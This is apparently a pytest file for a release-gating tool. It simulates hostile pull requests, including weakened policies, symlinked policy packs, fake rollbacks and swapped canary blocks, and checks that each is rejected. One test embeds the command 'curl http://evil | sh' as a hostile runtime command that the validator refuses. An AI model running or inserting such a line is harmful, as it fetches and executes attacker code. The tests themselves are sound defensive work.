"""Attacks on the gate by the pull request it judges, each a test named after the attack.

The story (tests/unit/history/conftest.py): sentiment 1.1.0 is live in dev and staging,
prod went back to 1.0.0. Each attack is a branch off main, validated with ``--base main``.
"""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from releasegate.errors import ConfigError
from releasegate.github.approvals import requirement_for
from releasegate.layout import RepoLayout
from releasegate.policy import load_policy_pack
from releasegate.validate import run_validation
from releasegate.validate.policy_change import describe_policy_change
from tests.acceptance.cli import run_cli
from tests.gitrepo import Repo, path, release
from tests.unit.history.conftest import build_story

PROD = path("prod", "sentiment")
PACK = "policies/policy-pack.yaml"
NOW = "2026-01-14T12:00Z"  # a Wednesday: no freeze window


@pytest.fixture
def story(tmp_path: Path) -> Repo:
    repo = build_story(tmp_path / "story")
    repo.git("switch", "-q", "-c", "attack")
    return repo


def _weakened_pack(root: Path) -> str:
    """The policy pack with every prod safeguard removed, as a hostile PR would write it."""
    text = (root / PACK).read_text()
    text = text.replace("      minimum: 2\n", "      minimum: 0\n")
    text = text.replace("    promotesFrom: staging\n    soakHours: 24\n", "")
    text = text.replace("      required: true\n      requireGpu: true\n", "      required: false\n")
    assert text != (root / PACK).read_text()
    return text


def test_pr_that_edits_the_policy_it_is_judged_by_is_judged_by_the_base_policy(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    story.commit("Loosen the rules and ship 9.9.9 to prod", "2026-01-10T00:00:00Z",
                 {PACK: _weakened_pack(story.root), PROD: release("sentiment", "9.9.9", env="prod")})
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
    assert result.code == 1, result.out
    assert f"{PROD}:10:14: error [promotion-order]" in result.out  # the base's promotesFrom still applies
    assert "policy change: policies/policy-pack.yaml (judged by the policies of main" in result.out
    assert "weakens: prod: promotesFrom staging removed" in result.out
    assert "weakens: prod: soakHours lowered from 24 to 0" in result.out
    assert "weakens: prod: approvals.minimum lowered from 2 to 0" in result.out
    assert "weakens: prod: loadTest.required turned off (no load test)" in result.out


def test_pr_that_edits_the_policy_needs_the_strictest_approvals_of_the_base_policy(story: Repo) -> None:
    story.commit("Loosen the rules", "2026-01-10T00:00:00Z", {PACK: _weakened_pack(story.root)})
    from releasegate.base_rules import rules_from

    base_policy = load_policy_pack(rules_from(RepoLayout(story.root), "main"))
    requirement = requirement_for(base_policy, ["prod"], policy_changed=True)
    assert requirement.minimum == 2  # the base says prod needs 2; the head says 0
    head_policy = load_policy_pack(RepoLayout(story.root))
    assert requirement_for(head_policy, ["prod"], policy_changed=True).minimum == 1  # what the PR asked for


def test_policy_owners_named_by_the_base_are_required_for_a_policy_change(story: Repo) -> None:
    story.git("switch", "-q", "main")
    text = (story.root / PACK).read_text() + "policyChange:\n  approvals:\n    minimum: 3\n    teams: [platform]\n"
    story.commit("Name the policy owners", "2026-01-09T00:00:00Z", {PACK: text})
    story.git("switch", "-q", "attack")
    story.git("merge", "-q", "main")
    story.commit("Drop the owners", "2026-01-10T00:00:00Z", {PACK: text.split("policyChange:")[0]})
    from releasegate.base_rules import rules_from

    rules = rules_from(RepoLayout(story.root), "main")
    requirement = requirement_for(load_policy_pack(rules), ["dev"], policy_changed=True)
    assert requirement.minimum == 3 and requirement.teams == ("platform",)
    change = describe_policy_change(rules, RepoLayout(story.root), [PACK])
    assert "policyChange: approvals.minimum lowered from 3 to 0" in change.weakens
    assert "policyChange: approvals.teams no longer require platform" in change.weakens


def test_releases_in_the_same_pr_as_a_schema_change_are_judged_by_the_base_schema(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    prod_schema = "policies/schemas/environments/prod.schema.json"
    story.commit("Drop the prod schema and ship a release without an SLO", "2026-01-10T00:00:00Z", {
        prod_schema: '{"$schema": "https://json-schema.org/draft/2020-12/schema"}\n',
        PROD: release("sentiment", "1.1.0", env="prod").split("  slo:")[0],
    })
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
    assert result.code == 1, result.out
    assert "error [environment-schema]" in result.out and "'slo' is required" in result.out
    assert f"weakens: {prod_schema} changed" in result.out


def test_a_symlink_in_the_base_policies_is_refused_not_followed(story: Repo, tmp_path: Path) -> None:
    secret = tmp_path / "secret.yaml"
    secret.write_text("apiVersion: releasegate/v1\n")
    story.git("switch", "-q", "main")
    (story.root / PACK).unlink()
    os.symlink(secret, story.root / PACK)
    story.git("add", PACK)
    story.commit("Link the policy pack", "2026-01-09T00:00:00Z")
    with pytest.raises(ConfigError, match="policies/policy-pack.yaml at main is a symbolic link"):
        run_validation(RepoLayout(story.root), base="main")


def test_rules_of_the_base_are_read_from_git_objects_not_the_work_tree(story: Repo) -> None:
    (story.root / PACK).write_text(_weakened_pack(story.root))  # uncommitted edit in the checkout
    from releasegate.base_rules import rules_from

    rules = rules_from(RepoLayout(story.root), "main")
    assert load_policy_pack(rules).environment("prod").approvals.minimum == 2  # type: ignore[union-attr]
    assert rules.relative(rules.policy_pack) == "policies/policy-pack.yaml@main"


def _prod_back_on_1_1_0(story: Repo) -> None:
    """main: prod runs 1.1.0 again (the file of Jan 5), so 1.0.0's file is a rollback target."""
    story.git("switch", "-q", "main")
    story.commit("Promote sentiment 1.1.0 to prod again (#7)", "2026-01-09T00:00:00Z",
                 {PROD: release("sentiment", "1.1.0", env="prod")})
    story.git("switch", "-q", "-C", "attack")


def _prod_canary_of_1_1_0(story: Repo) -> None:
    """main: prod runs a canary of 1.1.0 at 10 % beside the stable 1.0.0, as promote starts it."""
    story.git("switch", "-q", "main")
    story.commit("Promote sentiment 1.1.0 to prod again (#7)", "2026-01-09T00:00:00Z",
                 {PROD: release("sentiment", "1.1.0", env="prod", stable="1.0.0")})
    story.git("switch", "-q", "-C", "attack")


SATURDAY = "2026-01-17T12:00Z"  # inside prod's weekend freeze window


def test_rollback_that_restores_the_old_file_gets_the_fast_path(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    _prod_back_on_1_1_0(story)
    story.commit("Roll back sentiment in prod to 1.0.0", "2026-01-10T00:00:00Z",
                 {PROD: release("sentiment", "1.0.0", env="prod")})
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", SATURDAY)
    assert result.code == 0, result.out  # freeze ignored, no downgrade violation


def test_rollback_by_version_that_also_changes_the_deployment_is_a_promotion(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    _prod_back_on_1_1_0(story)
    story.commit("'Roll back' sentiment in prod to 1.0.0, and scale it", "2026-01-10T00:00:00Z",
                 {PROD: release("sentiment", "1.0.0", env="prod", replicas=9)})
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", SATURDAY)
    assert result.code == 1, result.out
    assert "error [freeze-window]" in result.out
    assert "error [no-downgrade]" in result.out
    assert "the file is not byte for byte one that was live in prod before" in result.out
    from releasegate import history
    from releasegate.release import load_release

    layout = RepoLayout(story.root)
    assert not history.is_rollback(layout, load_release(layout, story.root / PROD), "main")


def _side_door(text: str, version: str, digest: str) -> str:
    """A prod canary file whose stable block points at another model, as a hostile PR would write it."""
    start = text.index("    stable:\n")
    end = text.index("        format: torch-export", start)
    door = (f"    stable:\n      version: {version}\n      artifact:\n"
            f"        uri: s3://elsewhere/{version}/model.pt2\n        sha256: \"{digest}\"\n")
    return text[:start] + door + text[end:]


def test_pr_that_changes_only_the_stable_block_of_a_canary_is_refused(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    _prod_canary_of_1_1_0(story)  # prod: canary 1.1.0 beside stable 1.0.0
    live = (story.root / PROD).read_text()
    story.commit("Tweak the stable side", "2026-01-10T00:00:00Z", {PROD: _side_door(live, "6.6.6", "ab" * 32)})
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
    assert result.code == 1, result.out
    assert "error [stable-is-live] $.spec.rollout.stable: rollout.stable is 6.6.6" in result.out
    assert "the stable side must be what is live" in result.out


def test_stable_block_cannot_give_a_known_version_another_digest(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    _prod_canary_of_1_1_0(story)
    live = (story.root / PROD).read_text()
    story.commit("Same version, other bytes", "2026-01-10T00:00:00Z", {PROD: _side_door(live, "1.1.0", "cd" * 32)})
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
    assert result.code == 1, result.out
    assert "error [version-immutable] $.spec.rollout.stable.artifact.sha256: sentiment 1.1.0 has digest cdcdcdcdcdcd" \
        in result.out
    assert "error [version-immutable-history] $.spec.rollout.stable.artifact.sha256" in result.out


def test_a_canary_beside_the_live_model_passes_the_stable_rule(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    _prod_canary_of_1_1_0(story)
    live = (story.root / PROD).read_text()
    # prod's live file is a canary whose stable is 1.0.0: its next step keeps it.
    story.commit("Raise the canary's share", "2026-01-10T00:00:00Z",
                 {PROD: live.replace("canaryPercent: 10", "canaryPercent: 50")})
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
    assert "stable-is-live" not in result.out, result.out


def _external(text: str, block: str) -> str:
    head, rest = text.split("  runtime:\n", 1)
    return head + "  runtime:\n    kind: external\n" + block + rest[rest.index("    replicas:"):]


def test_release_that_brings_its_own_command_is_refused(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    staging = path("staging", "sentiment")
    hostile = _external((story.root / staging).read_text(),
                        '    external:\n      command: [sh, -c, "curl http://evil | sh"]\n'
                        "      readinessUrl: http://127.0.0.1:9/ready\n      inferUrl: http://127.0.0.1:9/infer\n")
    story.commit("Bring a command", "2026-01-10T00:00:00Z", {staging: hostile})
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
    assert result.code == 1, result.out
    assert "error [release-schema] $.spec.runtime.external: 'name' is required here" in result.out
    assert "error [unknown-field] $.spec.runtime.external.command: unknown field 'command'" in result.out


def test_release_that_names_an_undeclared_runtime_is_refused(
        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    staging = path("staging", "sentiment")
    story.commit("Pick a runtime", "2026-01-10T00:00:00Z",
                 {staging: _external((story.root / staging).read_text(), "    external:\n      name: bash\n")})
    monkeypatch.chdir(story.root)
    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
    assert result.code == 1, result.out
    assert "error [external-runtime] $.spec.runtime.external.name: no runtime 'bash' in the policy pack" in result.out


def test_the_pull_request_comment_says_what_a_policy_change_weakens(story: Repo) -> None:
    from releasegate.validate.pr_markdown import gate_markdown

    story.commit("Loosen the rules", "2026-01-10T00:00:00Z", {PACK: _weakened_pack(story.root)})
    result = run_validation(RepoLayout(story.root), base="main")
    text = gate_markdown(None, result, None, ["prod"])
    assert "### Policy change" in text and "Judged by the policies of the base, <code>main</code>" in text
    assert "- weakens: prod: soakHours lowered from 24 to 0" in text
